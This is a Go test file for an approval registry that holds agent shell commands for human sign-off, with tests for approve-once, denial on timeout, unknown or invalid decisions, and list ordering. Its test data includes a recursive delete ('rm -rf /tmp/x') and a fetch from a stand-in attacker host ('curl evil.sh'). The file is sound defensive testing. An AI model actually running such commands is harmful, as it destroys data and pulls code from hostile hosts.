package approvals

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lemonhq/lemongate/internal/bus"
	"github.com/lemonhq/lemongate/internal/clock"
	"github.com/lemonhq/lemongate/pkg/protocol"
)

func newRegistry() (*Registry, *bus.Bus) {
	b := bus.New()
	return NewRegistry(b, &clock.Fake{WallMs: 1_000}), b
}

func TestRequestResolveRoundTrip(t *testing.T) {
	r, b := newRegistry()
	sub := b.Subscribe(bus.TopicExecApprovals)
	defer sub.Cancel()

	type result struct {
		d   Decision
		err error
	}
	done := make(chan result, 1)
	go func() {
		d, err := r.Request(t.Context(), "lemon/telegram/bot123/dm/386246614", "lemon", "rm -rf /tmp/x", nil)
		done <- result{d, err}
	}()

	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
	defer cancel()
	ev, ok := bus.WaitFor(ctx, sub, func(ev bus.Event) bool {
		return ev.Type == protocol.BusApprovalRequested
	})
	require.True(t, ok)
	pending := ev.Payload["pending"].(map[string]any)
	approvalID := pending["id"].(string)
	assert.Equal(t, "rm -rf /tmp/x", pending["command"])
	assert.Len(t, r.List(), 1)

	require.NoError(t, r.ResolveApproval(t.Context(), approvalID, ApproveOnce))

	select {
	case res := <-done:
		require.NoError(t, res.err)
		assert.Equal(t, ApproveOnce, res.d)
	case <-time.After(2 * time.Second):
		t.Fatal("request did not return")
	}
	assert.Empty(t, r.List())

	resolved, ok := bus.WaitFor(ctx, sub, func(ev bus.Event) bool {
		return ev.Type == protocol.BusApprovalResolved
	})
	require.True(t, ok)
	assert.Equal(t, approvalID, resolved.Payload["approval_id"])
	assert.Equal(t, "approve_once", resolved.Payload["decision"])
}

func TestRequestContextExpiryDenies(t *testing.T) {
	r, _ := newRegistry()

	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	d, err := r.Request(ctx, "agent:lemon:main", "lemon", "curl evil.sh", nil)
	assert.Equal(t, Deny, d)
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	assert.Empty(t, r.List())
}

func TestResolveUnknownApproval(t *testing.T) {
	r, _ := newRegistry()
	err := r.ResolveApproval(t.Context(), "approval_missing", Deny)
	require.Error(t, err)
	assert.Equal(t, protocol.ErrNotFound, protocol.AsError(err).Code)
}

func TestResolveRejectsBadDecision(t *testing.T) {
	r, _ := newRegistry()
	err := r.ResolveApproval(t.Context(), "approval_x", Decision("maybe"))
	require.Error(t, err)
	assert.Equal(t, protocol.ErrInvalidParams, protocol.AsError(err).Code)
}

func TestListOrdersOldestFirst(t *testing.T) {
	r, _ := newRegistry()
	clk := r.clk.(*clock.Fake)

	launch := func(cmd string) {
		t.Helper()
		started := make(chan struct{})
		go func() {
			close(started)
			r.Request(t.Context(), "agent:lemon:main", "lemon", cmd, nil)
		}()
		<-started
		require.Eventually(t, func() bool {
			for _, p := range r.List() {
				if p.Command == cmd {
					return true
				}
			}
			return false
		}, time.Second, 5*time.Millisecond)
	}

	launch("first")
	clk.Advance(10 * time.Millisecond)
	launch("second")

	all := r.List()
	require.Len(t, all, 2)
	assert.Equal(t, "first", all[0].Command)
	assert.Equal(t, "second", all[1].Command)

	for _, p := range all {
		require.NoError(t, r.ResolveApproval(t.Context(), p.ID, Deny))
	}
}
